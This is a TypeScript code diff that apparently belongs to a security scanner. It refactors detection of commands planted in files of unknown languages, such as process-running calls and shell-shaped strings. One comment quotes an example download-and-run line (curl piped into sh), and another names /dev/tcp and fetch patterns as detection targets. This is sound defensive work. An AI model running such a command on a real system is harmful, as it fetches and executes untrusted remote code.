@@ -51,7 +51,7 @@ export const UNTABLED_SOURCE =
  * (`callCommand "curl -s https://x/s | sh"` in a Setup.hs, `Sys.command "..."` in a dune rule's
  * OCaml), read like a command line, so the download-and-run and shell readings decide them.
  */
-export function untabledSourceEffects(path: string, content: string): Effect[] {
+function processCallPlants(path: string, content: string): Effect[] {
   if (!UNTABLED_SOURCE.test(path)) return [];
   const name = path.split('/').pop() ?? path;
   const out: Effect[] = [];
@@ -92,7 +92,7 @@ const FIXTURES = /(?:^|\/)(?:fixtures|__fixtures__|testdata|test-data|test_data|
 const RUN_CONTEXT =
   /(?:\b(?:cmds?|commands?|exec\w*|system|shell\w*|spawn\w*|run\w*|popen\w*|process\w*|call\w*|sh|bash|zsh|invoke\w*|scripts?|actions?|hooks?|\w+_hooks?|do_cmd|compile|build|install|test|setup|prepare|configure|bootstrap|init|start|launch|before_\w+|after_\w+|pre_\w+|post_\w+|pre-\w+|post-\w+)\b|(?:^|[\s"'])-c\b)[^"'\n]{0,12}["'(\[{,\s=:]*$/i;
 
-export function unknownFileEffects(path: string, content: string): Effect[] {
+function shellStringPlants(path: string, content: string): Effect[] {
   const p = path.replace(/\\/g, '/');
   if (NOT_RUN.test(p) || FIXTURES.test(p) || content.length > 256 * 1024) return [];
   const lits = shellLiterals(content, (before) => RUN_CONTEXT.test(before))
@@ -101,4 +101,16 @@ export function unknownFileEffects(path: string, content: string): Effect[] {
   if (!lits.length) return [];
   const via = `plants a command in ${posix.basename(p)}, a file whose code or tool runs it`;
   return lits.map((command) => ({ tool: 'exec', command, via, onlyDeny: true }));
+}
+
+/**
+ * What a written file in a language no reading knows plants, read two ways: a source file's
+ * process-running calls with any command (processCallPlants), and in any such file a string shaped
+ * like a fetch, a pipe into a shell or /dev/tcp in a run context (shellStringPlants). Only a deny counts.
+ */
+export function unknownLanguagePlants(path: string, content: string): Effect[] {
+  const seen = new Set<string>();
+  return [...processCallPlants(path, content), ...shellStringPlants(path, content)].filter(
+    (e) => !seen.has(e.command ?? '') && (seen.add(e.command ?? ''), true),
+  );
 }
